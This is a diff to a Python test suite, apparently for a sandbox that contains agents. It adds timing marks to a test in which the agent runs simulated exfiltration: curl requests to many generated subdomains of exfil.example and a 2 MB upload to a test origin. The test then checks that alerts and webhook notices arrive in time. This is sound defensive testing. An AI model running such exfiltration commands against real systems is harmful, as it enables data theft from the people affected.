@@ -2046,9 +2046,11 @@ class Tests(ContainmentTests, HostBoundaryTests, Pass):
                       "curl -sS --max-time 5 -o /dev/null -w '%%{http_code}\\n' "
                       "http://$(printf %%08x $((i * 2654435761 %% 4294967296))).exfil.example/; "
                       "i=$((i+1)); done | sort | uniq -c; "
+                      "echo names_end $(date +%%s.%%N); "
                       "head -c 2097152 /dev/zero | "
                       "curl -sS --max-time 15 -o /dev/null -D - -w 'upload %%{http_code}\\n' "
-                      "--data-binary @- http://origin.test:%d/echo" % (
+                      "--data-binary @- http://origin.test:%d/echo; "
+                      "echo upload_end $(date +%%s.%%N)" % (
                           EXFIL_NAMES, self.vars["http_port"]))
             t0 = time.time()
             a = self.agent(["sh", "-c", script], run_args=["--profile", profile])
@@ -2075,7 +2077,8 @@ class Tests(ContainmentTests, HostBoundaryTests, Pass):
                 time.sleep(0.1)
             time.sleep(1)  # anything more would have come by now
             records, posts = alerts_of(a.sandbox), hook_posts(a.sandbox)
-            log("# exfiltration: alert records %r; webhook posts %r" % (
+            log("# exfiltration: agent marks %r; alert records %r; webhook posts %r" % (
+                re.findall(r"^(?:names_end|upload_end) [0-9.]+$", a.stdout(), re.M),
                 [(r.get("detector"), r.get("ts")) for r in records],
                 [(p["body"]["detector"], p["answered"], round(p["t"] - t0, 2))
                  for p in posts]))
@@ -2086,10 +2089,18 @@ class Tests(ContainmentTests, HostBoundaryTests, Pass):
             if sorted(p["body"]["detector"] for p in delivered) != want:
                 errs.append("webhook deliveries: %r, want one of each of %r" % (
                     [(p["body"]["detector"], p["answered"]) for p in posts], want))
-            late = [p for p in delivered if p["t"] - t0 > ALERT_WITHIN_S + a.secs]
-            if late:
-                errs.append("webhook deliveries later than %d s after the attempt: %r" % (
-                    ALERT_WITHIN_S, [(p["body"]["detector"], p["t"] - t0) for p in late]))
+            # Each delivery within ALERT_WITHIN_S of the end of what raised it, as the
+            # agent's own clock (the host's) saw it: the names, then the upload.
+            marks = dict(re.findall(r"^(names_end|upload_end) ([0-9.]+)$", a.stdout(), re.M))
+            ends = {"refused_names": float(marks.get("names_end", 0)),
+                    "upload": float(marks.get("upload_end", 0))}
+            late = [p for p in delivered if p["t"] - ends.get(p["body"]["detector"], 0) >
+                    ALERT_WITHIN_S]
+            if len(marks) != 2 or late:
+                errs.append("webhook deliveries later than %d s after what raised them "
+                            "(marks %r): %r" % (ALERT_WITHIN_S, marks, [
+                                (p["body"]["detector"], p["t"] - ends.get(
+                                    p["body"]["detector"], 0)) for p in late]))
             for p in posts:
                 if p["authorization"] != WEBHOOK_AUTHORIZATION or \
                         p["content_type"] != "application/json":
